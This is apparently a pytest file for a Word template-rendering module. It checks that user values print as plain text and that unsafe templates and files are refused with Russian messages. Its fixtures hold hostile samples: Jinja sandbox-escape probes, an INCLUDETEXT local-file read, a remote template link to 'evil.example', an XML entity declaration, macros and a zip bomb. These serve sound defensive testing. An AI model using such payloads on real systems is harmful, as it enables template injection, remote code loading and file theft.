"""Papers from templates: what a template may say, what stays text, which files are refused and in which words."""

import io
import re
from typing import Any

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.document import EMPTY, BadTemplate, plain, render
from reports.templates import Field, check, rows
from tests.docx_files import changed, docx, with_part, with_text

DOCXTPL_ESCAPES = re.compile(r"\{_[{%]|[%}]_\}")  # its own way to write braces
FIELDS = (Field("name", "имя"), Field("title", "должность"), rows("lines", "строки", text="текст", note="примечание"))
FACTS: dict[str, Any] = {
    "name": "Анна",
    "title": "",
    "lines": [{"text": "раз", "note": ""}, {"text": "два", "note": "!"}],
}


def text(paper: bytes) -> str:
    document = Document(io.BytesIO(paper))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    headers = [paragraph.text for paragraph in document.sections[0].header.paragraphs]
    return "\n".join([paragraph.text for paragraph in document.paragraphs] + cells + headers)


def test_fields_lists_and_conditions_are_filled_in() -> None:
    template = docx(
        "Для {{ name }}",
        "{%p if title %}",
        "не печатается",
        "{%p endif %}",
        rows=("{%tr for row in lines %}", "{{ loop.index }}: {{ row.text | upper }}", "{%tr endfor %}"),
        header="{{ name }}",
    )
    check(template, FIELDS)
    assert text(render(template, FACTS)) == "Для Анна\n1: РАЗ\n2: ДВА\nАнна"


def test_an_empty_fact_is_a_line_to_write_on_and_an_empty_cell_stays_empty() -> None:
    assert text(render(docx("[{{ title }}] [{{ title | blank }}]"), FACTS)) == "[____] []\n"


@given(st.text(max_size=60).filter(lambda text: not DOCXTPL_ESCAPES.search(text)))
@settings(max_examples=60, deadline=None)
def test_any_text_is_printed_as_text(value: str) -> None:
    assert text(render(docx("{{ name }}"), {"name": value})) == f"{plain(value) or EMPTY}\n"


@pytest.mark.parametrize("value", ["{{ 7*7 }}", "{% for x in y %}", "<w:p/>", "&amp; &", "a\nb", "'\"", "]]>", "{#"])
def test_signs_of_templates_and_of_xml_are_text(value: str) -> None:
    assert text(render(docx("{{ name }}"), {"name": value})) == f"{value}\n"


@pytest.mark.parametrize("value", [None, 5, object(), b"x"])
def test_nothing_but_texts_reaches_a_template(value: object) -> None:
    with pytest.raises(TypeError):
        render(docx("{{ name }}"), {"name": value})


EACH = "{%tr for row in lines %}"
UNKNOWN = "В шаблоне есть неизвестные поля: "
ONLY = "В шаблоне можно только печатать поля, повторять строки циклом «for» и ставить условия «if»"


@pytest.mark.parametrize(
    ("template", "told"),
    [
        (docx("{{ фио }}"), UNKNOWN + "{{ фио }}."),
        (docx("{{ фио }} {{ name }} {{ дата }}"), UNKNOWN + "{{ фио }}, {{ дата }}."),
        (docx("x", header="{{ дата }}"), UNKNOWN + "{{ дата }}."),
        (docx("{% if name == 'нет такого' %}{{ hidden }}{% endif %}"), UNKNOWN + "{{ hidden }}."),
        (docx(rows=(EACH, "{{ row.nothing }}", "{%tr endfor %}")), UNKNOWN + "{{ row.nothing }}."),
        (docx("{% for x in nothing %}{{ x }}{% endfor %}"), UNKNOWN + "{{ nothing }}"),
        (docx("{{ name.__class__ }}"), UNKNOWN + "{{ name.__class__ }}."),
        (docx("{{ lines.append }}"), UNKNOWN),
        (docx("{{ row.text }}"), UNKNOWN + "{{ row.text }}."),
        (docx("{{ name | reverse }}"), "В шаблоне есть неизвестный фильтр «reverse». Можно: blank, "),
        (docx("{{ name | safe }}"), "В шаблоне есть неизвестный фильтр «safe»."),
        (docx("{{ 'x' * 999999999 }}"), ONLY),
        (docx("{{ name.upper() }}"), ONLY),
        (docx("{{ range(9) }}"), ONLY),
        (docx("{% set x = 1 %}"), ONLY),
        (docx("{% include 'x' %}"), ONLY),
        (docx("{{ self._TemplateReference__context }}"), UNKNOWN),
        (docx("{% for x in lines %}"), "Метки шаблона не читаются"),
        (docx("{{ name"), "Метки шаблона не читаются"),
        (docx("{{ }}"), "Метки шаблона не читаются"),
        (docx("".join(f"{{% for {name} in lines %}}" for name in "abc") + "{% endfor %}" * 3), "Циклы"),
        (docx("{{ lines[5].text }}"), UNKNOWN),
        (docx("{% if name %}", "x", "{% endif %}"), ""),
        (docx("{%p if name %}", rows=("x{% endif %}",)), "Заполненный шаблон не открывается"),
        (docx("{{ loop.index }}"), UNKNOWN + "{{ loop.index }}."),
        (docx("{{ name | length }} {{ lines | length }}"), ""),
    ],
)  # fmt: skip
def test_a_faulty_template_is_told_in_one_sentence(template: bytes, told: str) -> None:
    if not told:
        check(template, FIELDS)
        return
    with pytest.raises(BadTemplate) as refused:
        check(template, FIELDS)
    assert told in str(refused.value)
    assert "\n" not in str(refused.value)


MACROS, NOT_WORD = "В файле есть макросы.", "Это не документ Word."
FETCHES = "</w:t><w:instrText>INCLUDETEXT c:/x</w:instrText><w:t>"
TYPES = "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
EXTERNAL = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "Это не файл DOCX."),
        (b"%PDF-1.7", "Это не файл DOCX."),
        (docx("x")[:400], "Это не файл DOCX."),
        (b"\xd0\xcf\x11\xe0" * 200, "Это не файл DOCX."),
        (with_part("word/vbaProject.bin"), "В файле есть макросы."),
        (with_text(TYPES, "document.main+xml", "document.macroEnabled.main+xml"), MACROS),
        (with_text(TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main"), NOT_WORD),
        (changed(docx("x"), lambda parts: parts.pop("word/document.xml")), NOT_WORD),
        (changed(docx("x"), lambda parts: parts.pop("[Content_Types].xml")), NOT_WORD),
        (with_text(RELS, "</Relationships>", EXTERNAL), "Шаблон обращается к другим файлам"),
        (with_part("word/_rels/settings.xml.rels", b"<broken"), "Шаблон обращается к другим файлам"),
        (with_part("word/embeddings/oleObject1.bin"), "В файле есть вложенные объекты."),
        (with_text("word/document.xml", "{{ name }}", FETCHES), "читает другой файл"),
        (with_text("word/document.xml", "<w:document", "<!DOCTYPE a [<!ENTITY b 'c'>]><w:document"), "объявления"),
        (with_part("word/document.xml", b"<w:document"), "Файл не читается как документ Word"),
        (with_part("word/document.xml", b"\x00\xff"), "Файл не читается как документ Word"),
        (docx("x", keywords="{{ name }}"), "не заполняются"),
        (with_part("word/media/big.png", b"0" * (41 * 1024 * 1024)), "Файл слишком велик в распакованном виде."),
        (b"PK" + b"0" * (5 * 1024 * 1024), "Файл больше 5 МБ"),
    ],
)  # fmt: skip
def test_a_file_that_is_no_harmless_document_is_refused(data: bytes, told: str) -> None:
    with pytest.raises(BadTemplate) as refused:
        check(data, FIELDS)
    assert told in str(refused.value)
